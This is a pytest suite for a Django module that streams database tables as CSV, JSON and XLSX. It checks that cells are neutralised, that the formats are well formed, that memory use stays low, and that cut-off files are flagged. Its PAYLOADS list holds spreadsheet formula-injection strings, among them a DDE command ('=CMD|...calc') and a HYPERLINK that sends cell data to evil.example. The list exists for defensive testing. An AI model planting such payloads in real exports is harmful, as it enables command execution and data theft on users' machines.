"""Files of tables hold what the database holds, run nothing, and say so when they are not whole."""

import csv
import gc
import io
import json
import sqlite3
import tempfile
import tracemalloc
from datetime import UTC, date, datetime

import pytest
from django.db import connection
from django.http import Http404
from django.test import RequestFactory
from django.utils import translation

import common.xlsx
from common import exports
from common.columns import Column, Kind
from common.models import DataVersion
from cooperatives.models import Group
from regions.models import Regency
from tests import xlsx
from tests.factories import make_group, make_regency

GROUPS = (
    Column("id", "Id", Kind.COUNT),
    Column("name", "Nama", Kind.TEXT),
    Column("note", "Catatan", Kind.TEXT),
    Column("is_confirmed", "Pasti", Kind.FLAG),
)
REGENCIES = (
    Column("name", "Nama", Kind.TEXT),
    Column("kind", "Jenis", Kind.TEXT, choices=tuple(Regency.Kind.choices)),
    Column("valid_from", "Dari", Kind.DATE),
    Column("capital_latitude", "Lintang", Kind.DECIMAL, digits=2),
    Column("tile_row", "Baris", Kind.COUNT),
    Column("url", "Alamat", Kind.LINK, "slug", link=lambda slug: f"/wilayah/{slug}/"),
    Column("mother", "Induk", Kind.TEXT, "split_from__name"),
)
# What spreadsheets have been made to run, or to read as something else.
PAYLOADS = (
    "=1+1",
    "=CMD|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+6281234567890",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    "a;=1+1",
    "a,\r\n=1+1",
    "{=1+1}",
    "<script>alert(1)</script>",
    "0012345678901",
    "'biasa",
    "_x0041_",
)
FORMULA_STARTS = tuple("=+-@\t\r\n＝＋－＠")

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _in_english():
    # The sentences of the files are checked as they stand in the code; that they are translated is another test's.
    with translation.override("en"):
        yield


def asked(query="format=csv", method="get"):
    return getattr(RequestFactory(), method)(f"/berkas/?{query}")


def groups_file(query="format=csv", queryset=None, **options):
    queryset = Group.objects.all() if queryset is None else queryset
    options.setdefault("keys", ("cooperatives",))
    options.setdefault("columns", GROUPS)
    return exports.stream(asked(query), name="kelompok", queryset=queryset, **options)


def content(response):
    return b"".join(response.streaming_content)


def lines(response, delimiter=","):
    return list(csv.reader(io.StringIO(content(response).decode("utf-8-sig"), newline=""), delimiter=delimiter))


def restored(text):
    """An inert text as it was: what an import of our own files does."""
    return text[1:] if text[:1] == "'" and exports.inert(text[1:]) == text else text


class TestInert:
    @pytest.mark.parametrize("text", PAYLOADS)
    def test_gives_the_text_back(self, text):
        assert restored(exports.inert(text)) == text

    @pytest.mark.parametrize("text", ["KSU Maju", "'biasa", "Jl. A-1", "5=5", "", '"=1+1'])
    def test_leaves_a_plain_text_alone(self, text):
        assert exports.inert(text) == text


class TestPayloads:
    @pytest.fixture(autouse=True)
    def _planted(self):
        Group.objects.bulk_create(Group(name=text, note=text) for text in PAYLOADS)

    @pytest.mark.parametrize(("query", "delimiter"), [("format=csv", ","), ("format=csv&pemisah=titik-koma", ";")])
    def test_csv_holds_nothing_that_runs_and_loses_nothing(self, query, delimiter):
        rows = lines(groups_file(query), delimiter)[1:]
        assert [restored(row[1]) for row in rows] == list(PAYLOADS)
        assert [restored(row[2]) for row in rows] == list(PAYLOADS)
        for row in rows:
            assert not any(cell.lstrip(" ").startswith(FORMULA_STARTS) for cell in row[1:3]), row

    def test_xlsx_types_them_as_text(self):
        # tests.xlsx refuses formulas and links.
        rows = xlsx.table(content(groups_file("format=xlsx")))[1:]
        assert [row[1] for row in rows] == list(PAYLOADS)

    def test_json_holds_them_as_they_are(self):
        rows = json.loads(content(groups_file("format=json")))["rows"]
        assert [row[1] for row in rows] == list(PAYLOADS)

    def test_labels_behind_a_key_are_inert_too(self):
        make_regency("=1+1", split_from=make_regency("Kutai"))
        child = make_regency("Anak", split_from=Regency.objects.get(name="=1+1"))
        by_key = {regency.pk: regency for regency in Regency.objects.all()}
        for related in (None, {"split_from": by_key}):
            response = exports.stream(
                asked(),
                name="w",
                columns=REGENCIES,
                keys=(),
                related=related,
                queryset=Regency.objects.filter(pk=child.pk),
            )
            assert lines(response)[1][-1] == "'=1+1"


class TestCells:
    @pytest.fixture(autouse=True)
    def _rows(self):
        mother = make_regency(
            "Kutai", kind="kota", valid_from=date(1959, 7, 4), capital_latitude="-0.5014", tile_row=0, slug="kutai"
        )
        make_regency("Tua", valid_from=date(1899, 12, 31), slug="tua", split_from=mother)

    def rows(self, form, **options):
        return exports.stream(
            asked(f"format={form}"), name="w", columns=REGENCIES, queryset=Regency.objects.all(), keys=(), **options
        )

    @pytest.mark.parametrize("in_memory", [True, False])
    def test_csv_keeps_null_empty_and_zero_zero(self, in_memory):
        related = {"split_from": Regency.objects.in_bulk()} if in_memory else None
        head, *rows = lines(self.rows("csv", related=related))
        assert head == ["Nama", "Jenis", "Dari", "Lintang", "Baris", "Alamat", "Induk"]
        assert rows == [
            ["Kutai", "Kota", "1959-07-04", "-0.5", "0", "http://testserver/wilayah/kutai/", ""],
            ["Tua", "Kabupaten", "1899-12-31", "", "", "http://testserver/wilayah/tua/", "Kutai"],
        ]

    def test_json_keeps_null_null_and_zero_zero(self):
        found = json.loads(content(self.rows("json")))
        assert found["rows"] == [
            ["Kutai", "Kota", "1959-07-04", -0.5, 0, "http://testserver/wilayah/kutai/", None],
            ["Tua", "Kabupaten", "1899-12-31", None, None, "http://testserver/wilayah/tua/", "Kutai"],
        ]
        assert found["columns"][0] == {"name": "name", "label": "Nama", "type": "text"}
        assert (found["count"], found["complete"]) == (2, True)
        assert "note" not in found

    def test_xlsx_holds_days_as_days_and_leaves_unknown_cells_empty(self):
        _head, *rows = xlsx.table(content(self.rows("xlsx")))
        assert rows == [
            ["Kutai", "Kota", 21735, -0.5, 0, "http://testserver/wilayah/kutai/", None],
            # No spreadsheet knows days before 1900: that one stays text.
            ["Tua", "Kabupaten", "1899-12-31", None, None, "http://testserver/wilayah/tua/", "Kutai"],
        ]
        assert date.fromordinal(21735 + 693594) == date(1959, 7, 4)

    def test_flags_and_moments(self):
        make_group("A", is_confirmed=False)
        DataVersion.objects.create(key="x", number=3, changed_at=datetime(2026, 1, 31, 23, 59, 58, tzinfo=UTC))
        assert lines(groups_file(columns=GROUPS[3:]))[1] == ["No"]
        assert json.loads(content(groups_file("format=json", columns=GROUPS[3:])))["rows"] == [[False]]
        moment = (Column("changed_at", "Kapan", Kind.MOMENT),)
        response = exports.stream(
            asked(), name="v", columns=moment, queryset=DataVersion.objects.filter(key="x"), keys=()
        )
        assert lines(response)[1] == ["2026-01-31T23:59:58Z"]


class TestCsvForm:
    def test_follows_rfc_4180(self):
        make_group('A, "B"\nC')
        found = content(groups_file())
        assert found.startswith(b"Id,Nama,Catatan,Pasti\r\n")
        assert b'"A, ""B""\nC"' in found
        assert found.endswith(b"Yes\r\n")

    def test_semicolons_come_with_a_byte_order_mark(self):
        make_group("A")
        found = content(groups_file("format=csv&pemisah=titik-koma"))
        assert found.startswith(b"\xef\xbb\xbfId;Nama;Catatan;Pasti\r\n")


class TestHeaders:
    def test_count_name_and_type(self, monkeypatch):
        monkeypatch.setattr(exports, "today", lambda: date(2026, 2, 3))
        Group.objects.bulk_create(Group(name=f"G{n}") for n in range(7))
        for form, kind in (("csv", "text/csv; charset=utf-8"), ("json", "application/json"), ("xlsx", "spreadsheetml")):
            response = groups_file(f"format={form}")
            assert response["X-Row-Count"] == "7"
            assert response["Content-Disposition"] == f'attachment; filename="kelompok-2026-02-03.{form}"'
            assert kind in response["Content-Type"]
            assert content(response)

    def test_a_known_count_is_not_counted_again(self, django_assert_num_queries):
        with django_assert_num_queries(1):  # the data version
            assert groups_file(expected=0)["X-Row-Count"] == "0"

    def test_head_has_no_body(self):
        make_group()
        response = exports.stream(asked(method="head"), name="k", columns=GROUPS, queryset=Group.objects.all(), keys=())
        assert response["X-Row-Count"] == "1"
        assert content(response) == b""

    @pytest.mark.parametrize("form", ["", "pdf", "CSV", "../csv"])
    def test_an_unknown_form_is_not_found(self, form):
        with pytest.raises(Http404):
            groups_file(f"format={form}")


class TestChunks:
    @pytest.mark.parametrize("rows", [0, 1, 2, 3, 5, 6, 8, 9])
    @pytest.mark.parametrize("form", ["csv", "json", "xlsx"])
    def test_every_row_comes_once_whatever_the_number(self, monkeypatch, rows, form):
        monkeypatch.setattr(exports, "FIRST_ROWS", 2)
        monkeypatch.setattr(exports, "CHUNK_ROWS", 3)
        Group.objects.bulk_create(Group(name=f"G{n}") for n in range(rows))
        found = content(groups_file(f"format={form}"))
        if form == "csv":
            names = [row[1] for row in csv.reader(io.StringIO(found.decode()))][1:]
        elif form == "json":
            names = [row[1] for row in json.loads(found)["rows"]]
        else:
            names = [row[1] for row in xlsx.table(found)][1:]
        assert names == [f"G{n}" for n in range(rows)]

    def test_the_first_bytes_wait_for_no_row(self, django_assert_num_queries):
        make_group()
        response = groups_file(expected=1)
        with django_assert_num_queries(0):
            assert next(iter(response.streaming_content)).startswith(b"Id,")

    def test_a_sheet_that_is_full_is_followed_by_another(self, monkeypatch):
        monkeypatch.setattr(common.xlsx, "SHEET_ROWS", 4)
        Group.objects.bulk_create(Group(name=f"G{n}") for n in range(7))
        found = xlsx.sheets(content(groups_file("format=xlsx", expected=8)))
        assert [len(sheet) for sheet in found] == [4, 4, 3]
        assert [row["B"] for sheet in found for row in sheet[1:] if "B" in row] == [f"G{n}" for n in range(7)]
        assert found[2][-1]["A"].startswith("# DATA CHANGED")

    def test_no_cells_of_another_order_of_the_queryset(self):
        Group.objects.bulk_create(Group(name=name) for name in "CAB")
        assert [row[1] for row in lines(groups_file(queryset=Group.objects.order_by("name")))[1:]] == list("CAB")


def last_words(form, found):
    """The note at the end of a file, or None."""
    if form == "json":
        parsed = json.loads(found)
        assert parsed["complete"] is ("note" not in parsed)
        return parsed.get("note")
    rows = xlsx.table(found) if form == "xlsx" else list(csv.reader(io.StringIO(found.decode())))
    last = rows[-1][0]
    return last[2:] if str(last).startswith("# ") else None


@pytest.mark.parametrize("form", ["csv", "json", "xlsx"])
class TestNotWhole:
    @pytest.fixture(autouse=True)
    def _small_chunks(self, monkeypatch):
        monkeypatch.setattr(exports, "FIRST_ROWS", 2)
        monkeypatch.setattr(exports, "CHUNK_ROWS", 2)
        Group.objects.bulk_create(Group(name=f"G{n}") for n in range(5))

    def test_a_whole_file_says_nothing(self, form):
        assert last_words(form, content(groups_file(f"format={form}"))) is None

    def test_a_file_that_breaks_off_says_so(self, form, monkeypatch, caplog):
        real = exports.Reader._cells
        calls = []

        def broken(reader, rows):
            calls.append(rows)
            if len(calls) == 2:
                raise OSError("the disk is gone")
            return real(reader, rows)

        monkeypatch.setattr(exports.Reader, "_cells", broken)
        found = content(groups_file(f"format={form}"))
        assert last_words(form, found).startswith("INCOMPLETE")
        assert "2 of 5 rows" in caplog.text

    def test_a_file_that_was_overtaken_by_a_change_says_so(self, form):
        response = groups_file(f"format={form}")
        pieces = iter(response.streaming_content)
        found = next(pieces)
        DataVersion.bump("cooperatives")
        assert last_words(form, found + b"".join(pieces)).startswith("DATA CHANGED")

    def test_a_change_of_another_subject_is_no_matter(self, form):
        response = groups_file(f"format={form}")
        DataVersion.bump("figures")
        assert last_words(form, content(response)) is None

    def test_rows_that_are_more_or_fewer_than_promised_are_told(self, form):
        assert last_words(form, content(groups_file(f"format={form}", expected=6))).startswith("DATA CHANGED")


class TestGivenUp:
    def test_nothing_is_left_on_disk(self, monkeypatch, tmp_path):
        monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
        make_group()
        for stop_after in (0, 1, None):
            response = groups_file("format=xlsx")
            pieces = iter(response.streaming_content)
            if stop_after is None:
                b"".join(pieces)
            elif stop_after:
                next(pieces)
            # What a server does when the visitor has gone; close() would also end the test's connection.
            for closer in response._resource_closers:
                closer()
            assert not list(tmp_path.iterdir())


class TestComputedRows:
    COLUMNS = (
        Column("name", "Nama", Kind.TEXT),
        Column("total", "Jumlah", Kind.COUNT),
        Column("on", "Per", Kind.DATE),
        Column("official", "Resmi", Kind.FLAG),
        Column("at", "Saat", Kind.MOMENT),
        Column("share", "Bagian", Kind.DECIMAL, digits=1),
        Column("url", "Alamat", Kind.LINK, link=str),
    )
    AT = datetime(2026, 1, 31, 8, 0, tzinfo=UTC)
    ROWS = (
        ("=Samarinda", 0, date(2026, 1, 31), True, AT, 50.46, "http://x/"),
        ("", None, None, None, None, None, None),
    )

    def file(self, form, rows=ROWS):
        return exports.stream_rows(asked(f"format={form}"), name="rekap", columns=self.COLUMNS, rows=rows, keys=())

    def test_csv(self):
        assert lines(self.file("csv"))[1:] == [
            ["'=Samarinda", "0", "2026-01-31", "Yes", "2026-01-31T08:00:00Z", "50.5", "http://x/"],
            [""] * 7,
        ]

    def test_json(self):
        found = json.loads(content(self.file("json")))
        assert found["rows"] == [
            ["=Samarinda", 0, "2026-01-31", True, "2026-01-31T08:00:00Z", 50.5, "http://x/"],
            [None] * 7,
        ]

    def test_xlsx(self):
        rows = xlsx.table(content(self.file("xlsx")))
        assert rows[1] == ["=Samarinda", 0, 46053, "Yes", "2026-01-31T08:00:00Z", 50.5, "http://x/"]

    def test_no_rows(self):
        response = self.file("csv", rows=())
        assert response["X-Row-Count"] == "0"
        assert len(lines(response)) == 1


ROWS = 20_000
FLAT = 6_000_000  # bytes; all rows at once need more than three times as much


class TestMemory:
    @pytest.fixture(autouse=True)
    def _many(self):
        Group.objects.bulk_create((Group(name=f"Kelompok {n}", note="x" * 300) for n in range(ROWS)), batch_size=1000)

    def peak(self, act):
        gc.collect()
        tracemalloc.start()
        try:
            act()
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    @pytest.mark.parametrize("form", ["csv", "json", "xlsx"])
    def test_stays_flat(self, form):
        response = groups_file(f"format={form}")

        def drain():
            assert sum(len(piece) for piece in response.streaming_content) > 100_000

        assert self.peak(drain) < FLAT

    def test_control_everything_at_once_is_seen(self):
        assert self.peak(lambda: list(Group.objects.values_list("id", "name", "note", "is_confirmed"))) > FLAT


@pytest.mark.sqlite
@pytest.mark.django_db(transaction=True)
class TestOtherWriters:
    """With a rollback journal an open cursor blocks every commit."""

    @pytest.fixture(autouse=True)
    def _rows(self):
        Group.objects.bulk_create(Group(name=f"G{n}") for n in range(500))

    def write(self):
        other = sqlite3.connect(connection.settings_dict["NAME"], timeout=0.1)
        try:
            other.execute("UPDATE cooperatives_group SET note = 'baru' WHERE name = 'G499'")
            other.commit()
        finally:
            other.close()

    def test_can_commit_while_a_file_is_being_read(self):
        pieces = iter(groups_file().streaming_content)
        next(pieces), next(pieces)
        self.write()
        assert b"".join(pieces).count(b"\r\n") == 400

    def test_control_an_open_cursor_is_seen(self):
        rows = Group.objects.values_list("name").iterator(chunk_size=10)
        next(rows)
        if connection.cursor().execute("PRAGMA journal_mode").fetchone()[0] == "wal":
            pytest.skip("this SQLite writes ahead: readers block nobody")
        with pytest.raises(sqlite3.OperationalError, match="locked"):
            self.write()
        rows.close()
